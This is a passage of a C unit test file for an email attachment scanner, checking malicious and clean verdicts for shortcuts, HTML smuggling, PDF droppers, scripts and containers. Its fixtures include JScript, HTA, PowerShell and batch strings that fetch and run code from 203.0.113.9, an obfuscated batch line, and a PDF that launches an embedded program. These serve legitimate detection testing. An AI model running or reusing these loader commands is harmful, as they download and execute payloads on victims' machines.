         "shortcut", "shortcut_runs_system_program", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
        {"powershell shortcut", "Invoice.lnk", "application/x-ms-shortcut", ps, "shortcut",
         "shortcut_runs_system_program", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
        {"shortcut beside a DLL in an ISO", "Invoice.iso", "application/octet-stream", bb,
         "shortcut", "shortcut_beside_payload", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
        {"shortcut beside a batch file in an ISO", "Invoice.iso", "application/octet-stream", ice,
         "shortcut", "shortcut_beside_payload", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
        /* near misses: shortcuts to a document, a browser, a bare console, a
         * shortcut beside a PDF in an ISO: never MALICIOUS */
        {"shortcut to a document", "Report.lnk", "application/octet-stream", doc, NULL, NULL,
         ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS},
        {"browser shortcut", "Intranet.lnk", "application/octet-stream", edge, NULL, NULL,
         ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS},
        {"console, no arguments", "Console.lnk", "application/octet-stream", console, NULL, NULL,
         ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS},
        {"shortcut beside a PDF in an ISO", "Manual.iso", "application/octet-stream", it, NULL,
         NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS},
    };
    check_rows(rows, sizeof rows / sizeof rows[0], "shortcut");
    struct blob *all[] = {&pe, &rundll, &doc, &cmd, &ps, &edge, &console, &bb, &ice, &it};
    for (size_t i = 0; i < sizeof all / sizeof all[0]; i++)
        free(all[i]->p);
}

static void test_smuggling_verdicts(void **state)
{
    struct blob pe = tiny_pe();
    struct blob lnk = fixture("lnk/report-document.lnk");
    const char *iso_names[] = {"Invoice.lnk", "data.dll"};
    struct blob iso_files[] = {lnk, pe};
    struct blob iso = iso_of(iso_names, iso_files, 2);
    const char *zip_names[] = {"Invoice.iso"};
    struct blob zip = zip_of(zip_names, &iso, 1);
    struct blob text = {(uint8_t *)"Meeting notes, 29 January.\n", 27};
    const char *txt_names[] = {"notes.txt"};
    struct blob notes_zip = zip_of(txt_names, &text, 1);
    char *txt64 = b64(text.p, text.len, false);
    char *pe64 = b64(pe.p, pe.len, false);
    const struct verdict_row rows[] = {
        {"Qakbot page: zip holding an ISO", "Document.html", "text/html", qakbot_page(&zip),
         "html_smuggling", "html_smuggling_payload", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
        {"data: URI download of a program", "Remittance.htm", "text/html",
         blobf("<html><body><a href=\"data:application/octet-stream;base64,%s\" "
               "download=\"Remittance.exe\">open</a></body></html>",
               pe64),
         "html_smuggling", "html_smuggling_payload", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
        {"a zip of notes is still an archive", "notes.html", "text/html", qakbot_page(&notes_zip),
         "html_smuggling", "html_smuggling_payload", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
        {"rebuilding a text file", "notes.html", "text/html",
         blobf("<html><a href=\"data:text/plain;base64,%s\" download=\"notes.txt\">x</a></html>",
               txt64),
         "html_smuggling", "html_smuggling", ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_MALICIOUS},
        /* near misses */
        {"newsletter with inline images", "newsletter.html", "text/html",
         blobf("<!DOCTYPE html><html><body><img src=\"data:image/png;base64,%s\">"
               "<p>Our spring catalogue is out.</p></body></html>",
               pe64),
         NULL, NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN},
        {"a web page with script and no file", "page.html", "text/html",
         blobf("<html><script>var s = atob('%s'); console.log(s.length);</script></html>", txt64),
         NULL, NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN},
    };
    check_rows(rows, sizeof rows / sizeof rows[0], "html_smuggling");
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
        free(rows[i].data.p);
    free(txt64), free(pe64);
    free(pe.p), free(lnk.p), free(iso.p), free(zip.p), free(notes_zip.p);
}

static void test_pdf_verdicts(void **state)
{
    struct blob pe = tiny_pe(), zpe = deflated(pe.p, pe.len);
    static const char text[] = "BT /F1 12 Tf 72 720 Td (Invoice 2023-0117) Tj ET";
    const struct pdf_obj dropper[] = {
        {"/Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (this.exportDataObject("
         "{cName: 'x', nLaunch: 2});) >>",
         NULL, 0},
        {"/Type /Pages /Kids [3 0 R] /Count 1", NULL, 0},
        {"/Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R", NULL, 0},
        {"", (const uint8_t *)text, sizeof text - 1},
        {"/Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >>", NULL, 0},
        {"/Type /EmbeddedFile /Filter /FlateDecode", zpe.p, zpe.len},
    };
    const struct pdf_obj statement[] = {
        PDF_PAGES,
        {"", (const uint8_t *)text, sizeof text - 1},
    };
    const struct pdf_obj forms[] = {
        {"/Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] >> /OpenAction << /S /JavaScript "
         "/JS (this.getField('total').value = 0;) >>",
         NULL, 0},
        {"/Type /Pages /Kids [3 0 R] /Count 1", NULL, 0},
        {"/Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R", NULL, 0},
        {"", (const uint8_t *)text, sizeof text - 1},
    };
    const struct verdict_row rows[] = {
        {"JavaScript dropper with a program", "Invoice.pdf", "application/pdf",
         pdf_of(dropper, 6, ""), "pdf_action", "pdf_action_with_program", ZH_VERDICT_MALICIOUS,
         ZH_VERDICT_MALICIOUS},
        /* near misses */
        {"a statement", "Statement.pdf", "application/pdf", pdf_of(statement, 4, ""), NULL, NULL,
         ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN},
        {"a form with JavaScript", "Form.pdf", "application/pdf", pdf_of(forms, 4, ""), NULL, NULL,
         ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN},
    };
    check_rows(rows, sizeof rows / sizeof rows[0], "pdf_action");
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
        free(rows[i].data.p);
    free(pe.p), free(zpe.p);
}

/* ---- judgement: scripts, containers, password archives, the site ------------ */

static struct blob text_blob(const char *t)
{
    struct blob b = {(uint8_t *)strdup(t), strlen(t)};
    return b;
}

static const char JS[] = "var sh = new ActiveXObject(\"WScript.Shell\");\r\n"
                         "sh.Run(\"powershell -w hidden -c iwr http://203.0.113.9/a.dll\", 0);\r\n";
static const char VBS[] = "Dim o\r\nSet o = CreateObject(\"WScript.Shell\")\r\n"
                          "o.Run \"cmd /c start data.dll\", 0\r\n";
static const char HTA[] =
    "<html><head><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\" />\r\n"
    "<script language=\"VBScript\">Set s = CreateObject(\"WScript.Shell\")\r\n"
    "s.Run \"mshta http://203.0.113.9/p\", 0\r\nself.close</script></head>"
    "<body></body></html>\r\n";
static const char PS1[] = "$u = 'http://203.0.113.9/a.dll'\r\n"
                          "(New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\a.dll\")\r\n"
                          "Start-Process rundll32 -ArgumentList \"$env:TEMP\\a.dll,Start\"\r\n";
static const char BAT[] = "@echo off\r\nset x=%TEMP%\\a.dll\r\n"
                          "powershell -c iwr http://203.0.113.9/a.dll -OutFile %x%\r\n"
                          "rundll32 %x%,Start\r\nexit\r\n";
static const char WSF[] = "<job id=\"a\">\r\n<script language=\"JScript\">\r\n"
                          "new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c calc\");\r\n"
                          "</script>\r\n</job>\r\n";

/* Scripts by content: alone at least SUSPICIOUS, in an archive MALICIOUS;
 * JSON, prose and script text under a document name are not scripts. */
static void test_script_verdicts(void **state)
{
    const char *zn[] = {"Invoice.js"};
    struct blob js = text_blob(JS);
    const char *bn[] = {"build.bat"};
    struct blob bat = text_blob(BAT);
    /* "powershell" spelt from substrings of a shuffled alphabet. */
    const char *obf_n[] = {"Proforma.cmd"};
    struct blob obf = text_blob("@echo off\r\nset k=pgaswxrmhzqifoykblnejtduvc\r\n"
                                "%k:~0,1%%k:~13,1%%k:~4,1%%k:~19,1%%k:~6,1%%k:~3,1%%k:~8,1%"
                                "%k:~19,1%%k:~17,1%%k:~17,1% aQB3AHIAIAAnAGgA\r\nexit\r\n");
    const char *lib_n[] = {"js/menu.js"};
    struct blob lib = text_blob("function toggle(id) {\n  var el = document.getElementById(id);\n"
                                "  el.hidden = !el.hidden;\n};\n");
    const struct verdict_row rows[] = {
        {"lone JScript", "Invoice.js", "application/octet-stream", text_blob(JS), "script",
         "script_attachment", ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_MALICIOUS},
        {"lone HTA", "Document.hta", "application/hta", text_blob(HTA), "script",
         "script_attachment", ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_MALICIOUS},
        {"VBScript", "Invoice.vbs", "text/vbscript", text_blob(VBS), "script", "script_attachment",
         ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_MALICIOUS},
        {"PowerShell", "Invoice.ps1", "text/plain", text_blob(PS1), "script", "script_attachment",
         ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_MALICIOUS},
        {"batch", "Invoice.cmd", "text/plain", text_blob(BAT), "script", "script_attachment",
         ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_MALICIOUS},
        {"Windows Script File", "Invoice.wsf", "text/xml", text_blob(WSF), "script",
         "script_attachment", ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_MALICIOUS},
        {"JScript in a zip", "Invoice.zip", "application/zip", zip_of(zn, &js, 1), "script",
         "script_in_container", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
        {"batch in a zip from outside", "tools.zip", "application/zip", zip_of(bn, &bat, 1),
         "script", "script_in_container", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
        {"DOSfuscated batch in a zip", "Proforma.zip", "application/zip", zip_of(obf_n, &obf, 1),
         "script", "script_in_container", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
        /* near misses */
        {"a web library in a developer's zip", "site.zip", "application/zip",
         zip_of(lib_n, &lib, 1), NULL, NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS},
        {"a shell script (no Windows script host runs it)", "install.sh", "text/x-sh",
         text_blob("#!/bin/sh\nset -e\nmake && make install\n"), NULL, NULL, ZH_VERDICT_CLEAN,
         ZH_VERDICT_CLEAN},
        {"a .js that is JSON", "config.js", "application/json",
         text_blob("{\"name\": \"report\", \"rows\": [1, 2, 3], \"new\": true, \"var\": null}\n"),
         NULL, NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS},
        {"prose under a script name", "notes.vbs", "text/plain",
         text_blob("Set the table for six and then call Anna when the guests arrive.\n"), NULL,
         NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS},
        {"script text in a .txt", "howto.txt", "text/plain", text_blob(BAT), NULL, NULL,
         ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN},
        {"JScript quoted in an HTML page", "snippet.html", "text/html",
         text_blob("<html><body><pre>var sh = new ActiveXObject(\"WScript.Shell\");</pre>"
                   "</body></html>"),
         NULL, NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN},
    };
    check_rows(rows, sizeof rows / sizeof rows[0], "script");
    /* A second signal: a lone script from a generated-looking sender. */
    const struct mail odd = {scanner, &ENV, "kx7q9zt4vw@fabrikam.example",
                             "Your invoice is attached."};
    const struct zh_result *r = scan_mail(&odd, "Invoice.js", "application/octet-stream", &js);
    if (r->verdict != ZH_VERDICT_MALICIOUS || !find(r, "combination", "sender+script")) {
        dump(r);
        fail_msg("a script from a forged sender must be MALICIOUS");
    }
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
        free(rows[i].data.p);
    free(js.p), free(bat.p), free(lib.p), free(obf.p);
}

/* A stand-in for a Word document with VBA: the OLE2 signature and the VBA
 * project's stream name as a compound file's directory spells it. */
static struct blob macro_doc(void)
{
    struct blob b = {calloc(1, 2048), 2048};
    memcpy(b.p, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
    static const char name[] = "_VBA_PROJECT";
    for (size_t i = 0; name[i]; i++)
        b.p[1024 + 2 * i] = (uint8_t)name[i];
    return b;
}

/* Disk images and OneNote holding what runs; nesting used to hide. */
static void test_container_verdicts(void **state)
{
    struct blob pe = tiny_pe();
    struct blob vbs = text_blob(VBS);
    struct blob pdf = text_blob("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n");
    struct blob txt = text_blob("Install with setup, then reboot.\n");
    struct blob lnk = fixture("lnk/report-document.lnk");
    const char *exe_n[] = {"Invoice.exe", "readme.txt"};
    struct blob exe_f[] = {pe, txt};
    const char *vbs_n[] = {"Shipping_Documents.vbs"};
    const char *doc_n[] = {"manual.pdf", "readme.txt"};
    struct blob doc_f[] = {pdf, txt};
    const char *ql_n[] = {"Invoice.lnk", "data.dll"};
    struct blob ql_f[] = {lnk, pe};
    struct blob ql_iso = iso_of(ql_n, ql_f, 2);
    const char *qz_n[] = {"Invoice.iso"};
    struct blob ql_zip = zip_of(qz_n, &ql_iso, 1);
    const char *in_n[] = {"notes.txt"}, *mid_n[] = {"inner.zip"}, *out_n[] = {"middle.zip"};
    struct blob in = zip_of(in_n, &txt, 1), mid = zip_of(mid_n, &in, 1);
    const struct verdict_row rows[] = {
        {"ISO holding a program", "Invoice.iso", "application/octet-stream",
         iso_of(exe_n, exe_f, 2), "container", "disk_image_payload", ZH_VERDICT_MALICIOUS,
         ZH_VERDICT_MALICIOUS},
        {"ISO holding a script", "Shipping.iso", "application/octet-stream", iso_of(vbs_n, &vbs, 1),
         "container", "disk_image_payload", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
        {"OneNote holding an HTA, batch and program", "Remittance.one", "application/onenote",
         fixture("onenote/remittance.one"), "container", "onenote_payload", ZH_VERDICT_MALICIOUS,
         ZH_VERDICT_MALICIOUS},
        {"HTML > zip > ISO > shortcut and DLL", "Document.html", "text/html", qakbot_page(&ql_zip),
         "container", "nested_to_hide", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
        /* near misses */
        {"ISO of documents", "Manual.iso", "application/octet-stream", iso_of(doc_n, doc_f, 2),
         NULL, NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN},
        {"zips three deep holding notes", "outer.zip", "application/zip", zip_of(out_n, &mid, 1),
         NULL, NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS},
    };
    check_rows(rows, sizeof rows / sizeof rows[0], "container");
    /* The smuggling page is judged by html_smuggling as well. */
    const struct zh_result *r = scan_attachment("Document.html", "text/html", &rows[3].data);
    assert_non_null(find(r, "html_smuggling", "html_smuggling_payload"));
    assert_non_null(find(r, "shortcut", "shortcut_beside_payload"));
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
        free(rows[i].data.p);
    free(pe.p), free(vbs.p), free(pdf.p), free(txt.p), free(lnk.p), free(ql_iso.p), free(ql_zip.p);
    free(in.p), free(mid.p);
}

static const char *const OWN_RCPT[] = {"alice@corp.example.com"};
/* The organisation's HR through its hosted provider, and IT through its hub. */
static const struct zh_scan_envelope HOSTED = {.client_ip = "40.107.22.14",
                                               .helo = "EUR01-obe.outbound.protection.example",
                                               .mail_from = "payroll@corp.example.com",
                                               .rcpt_to = OWN_RCPT,
                                               .n_rcpt = 1,
                                               .received_at = 1675000000000};
static const struct zh_scan_envelope HUB = {.client_ip = "10.0.1.29",
                                            .helo = "exch01.corp.example.com",
                                            .mail_from = "servicedesk@corp.example.com",
                                            .rcpt_to = OWN_RCPT,
                                            .n_rcpt = 1,
                                            .received_at = 1675000000000};

static zh_scanner *scanner_with(zh_engine **e, const char *setting, const char *value)
{
    struct zh_config cfg;
    zh_config_defaults(&cfg);
    zh_config_set(&cfg, "rules_dir", ZH_SOURCE_DIR "/rules", NULL, 0);
    zh_config_set(&cfg, "outbreak.enabled", "0", NULL, 0);
    if (setting)
        assert_int_equal(zh_config_set(&cfg, setting, value, NULL, 0), ZH_ERR_OK);
    struct zh_rules_report rep;
    assert_int_equal(zh_engine_new(&cfg, e, &rep), ZH_ERR_OK);
    zh_rules_report_free(&rep);
    zh_config_free(&cfg);
    zh_scanner *sc;
    assert_int_equal(zh_scanner_new(*e, &sc), ZH_ERR_OK);
    return sc;
}

static void expect(const struct zh_result *r, const char *what, const char *det, const char *rule,
                   bool fires, int min_verdict, int max_verdict)
{
    if ((find(r, det, rule) != NULL) != fires || r->verdict < min_verdict ||
        r->verdict > max_verdict) {
        dump(r);
        fail_msg("%s: %s/%s %s, verdict %d (want %d..%d)", what, det, rule,
                 fires ? "silent" : "fired", r->verdict, min_verdict, max_verdict);
    }
}

/* Password archives judged by what they hold, and the [site] settings. */
static void test_password_and_site_verdicts(void **state)
{
    struct blob pdf = text_blob("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n");
    struct blob js = text_blob(JS), doc = macro_doc(), pe = tiny_pe(), bat = text_blob(BAT);
    const char *pdf_n[] = {"Payslip_2025_02.pdf", "Tax_form.pdf"};
    struct blob pdf_f[] = {pdf, pdf};
    const char *js_n[] = {"Invoice.js"}, *doc_n[] = {"Invoice.doc"};
    struct blob payslips = zip_pw_of("Xk81pq", pdf_n, pdf_f, 2);
    struct blob jszip = zip_pw_of("Xk81pq", js_n, &js, 1);
    struct blob doczip = zip_pw_of("Xk81pq", doc_n, &doc, 1);
    const char *pw_text = "Your documents are in a protected archive. Password: Xk81pq";
    const struct mail outside = {scanner, &ENV, "noreply@payroll-provider.example", pw_text};
    const struct mail hr = {scanner, &HOSTED, "payroll@corp.example.com", pw_text};

    const struct zh_result *r = scan_mail(&outside, "documents.zip", "application/zip", &payslips);
    expect(r, "payslips from a provider", "archive_executable",
           "encrypted_archive_password_documents", true, ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN);
    const struct mail use = {scanner, &ENV, "noreply@payroll-provider.example",
                             "Your statements are attached.\r\nUse Xk81pq to\r\nopen the file."};
    r = scan_mail(&use, "documents.zip", "application/zip", &payslips);
    expect(r, "\"Use ... to open\" names the password", "archive_executable",
           "encrypted_archive_password_documents", true, ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN);
    const struct mail none = {scanner, &ENV, "noreply@payroll-provider.example",
                              "Your statements are attached; the key follows by SMS."};
    r = scan_mail(&none, "documents.zip", "application/zip", &payslips);
    expect(r, "a locked archive is never CLEAN", "archive_executable", "encrypted_archive", true,
           ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_SUSPICIOUS);
    r = scan_mail(&outside, "Invoice.zip", "application/zip", &jszip);
    expect(r, "a password zip of JScript", "archive_executable",
           "encrypted_archive_password_payload", true, ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS);
    r = scan_mail(&outside, "Invoice.zip", "application/zip", &doczip);
    expect(r, "a password zip of a macro document", "archive_executable",
           "encrypted_archive_password_payload", true, ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS);
    /* Issue 12's HR mail through the hosted provider: never MALICIOUS on
     * defaults; with the provider's range trusted, not an outside claim. */
    r = scan_mail(&hr, "documents.zip", "application/zip", &payslips);
    expect(r, "HR via the hosted provider, defaults", "sender", "claims_recipient_domain", true,
           ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS);
    zh_engine *e2;
    zh_scanner *site = scanner_with(&e2, "site.trusted_networks", "40.107.0.0/16 52.100.0.0/14");
    const struct mail hr_trusted = {site, &HOSTED, "payroll@corp.example.com", pw_text};
    r = scan_mail(&hr_trusted, "documents.zip", "application/zip", &payslips);
    expect(r, "HR via the trusted provider", "sender", "claims_recipient_domain", false,
           ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN);
    /* ...but a program from that provider's other tenants is still judged. */
    const struct mail tenant = {site, &ENV, "billing@other-tenant.example", "Invoice attached"};
    const char *exe_n[] = {"Invoice.exe"};
    struct blob iso = iso_of(exe_n, &pe, 1);
    r = scan_mail(&tenant, "Invoice.iso", "application/octet-stream", &iso);
    expect(r, "ISO with a program from outside", "container", "disk_image_payload", true,
           ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS);
    /* IT's ISO delivery and a developer's zip of build scripts, from the
     * hub and the organisation's domain: flagged, never MALICIOUS. */
    const struct mail it = {site, &HUB, "servicedesk@corp.example.com", "The VPN installer."};
    r = scan_mail(&it, "VPN_install.iso", "application/octet-stream", &iso);
    expect(r, "IT's ISO delivery", "container", "disk_image_payload", true, ZH_VERDICT_CLEAN,
           ZH_VERDICT_SUSPICIOUS);
    const char *bat_n[] = {"build.bat"};
    struct blob tools = zip_of(bat_n, &bat, 1);
    r = scan_mail(&it, "tools.zip", "application/zip", &tools);
    expect(r, "a developer's zip of scripts", "script", "script_in_container", true,
           ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS);
    zh_scanner_free(site);
    zh_engine_free(e2);
    free(pdf.p), free(js.p), free(doc.p), free(pe.p), free(bat.p), free(payslips.p);
    free(jszip.p), free(doczip.p), free(iso.p), free(tools.p);
}

/* The YARA externals of the new objects, through a rule set that uses them. */
static void test_wrapper_externals(void **state)
{
    zh_engine *e;
    zh_scanner *sc = scanner_with(&e, "rules_dir", ZH_SOURCE_DIR "/tests/fixtures/rules-externals");
    struct blob pe = tiny_pe(), lnk = fixture("lnk/bumblebee-rundll32.lnk"), js = text_blob(JS);
    const char *ql_n[] = {"Invoice.lnk", "documents.dll", "run.js"};
    struct blob ql_f[] = {lnk, pe, js};
    struct blob iso = iso_of(ql_n, ql_f, 3);
    const char *qz_n[] = {"Invoice.iso"};
    struct blob zip = zip_of(qz_n, &iso, 1);
    struct blob page = qakbot_page(&zip);
    const struct mail ml = {sc, &ENV, "carol@fabrikam.example", "See the document."};
    const struct zh_result *r = scan_mail(&ml, "Document.html", "text/html", &page);
    static const char *const rules[] = {"ext_smuggled_shortcut", "ext_shortcut_target",
                                        "ext_smuggling_page", "ext_script_in_image",
                                        "ext_not_internal"};
    for (size_t i = 0; i < sizeof rules / sizeof rules[0]; i++)
        if (!find(r, "yara", rules[i])) {
            dump(r);
            fail_msg("rule %s did not match", rules[i]);
        }
    zh_scanner_free(sc);
    zh_engine_free(e);
    free(pe.p), free(lnk.p), free(js.p), free(iso.p), free(zip.p), free(page.p);
}

int main(void)
{
    const struct CMUnitTest stage[] = {
        cmocka_unit_test_setup_teardown(test_lnk_extract, setup_stage, teardown_stage),
        cmocka_unit_test_setup_teardown(test_lnk_damaged, setup_stage, teardown_stage),
        cmocka_unit_test_setup_teardown(test_smuggling_extract, setup_stage, teardown_stage),
        cmocka_unit_test_setup_teardown(test_pdf_extract, setup_stage, teardown_stage),
        cmocka_unit_test_setup_teardown(test_onenote_extract, setup_stage, teardown_stage),
    };
    const struct CMUnitTest verdicts[] = {
        cmocka_unit_test(test_shortcut_verdicts),
        cmocka_unit_test(test_smuggling_verdicts),
        cmocka_unit_test(test_pdf_verdicts),
        cmocka_unit_test(test_script_verdicts),
        cmocka_unit_test(test_container_verdicts),
        cmocka_unit_test(test_password_and_site_verdicts),
        cmocka_unit_test(test_wrapper_externals),
    };
    int rc = cmocka_run_group_tests_name("extractors", stage, NULL, NULL);
    return rc | cmocka_run_group_tests_name("verdicts", verdicts, setup_engine, teardown_engine);
}
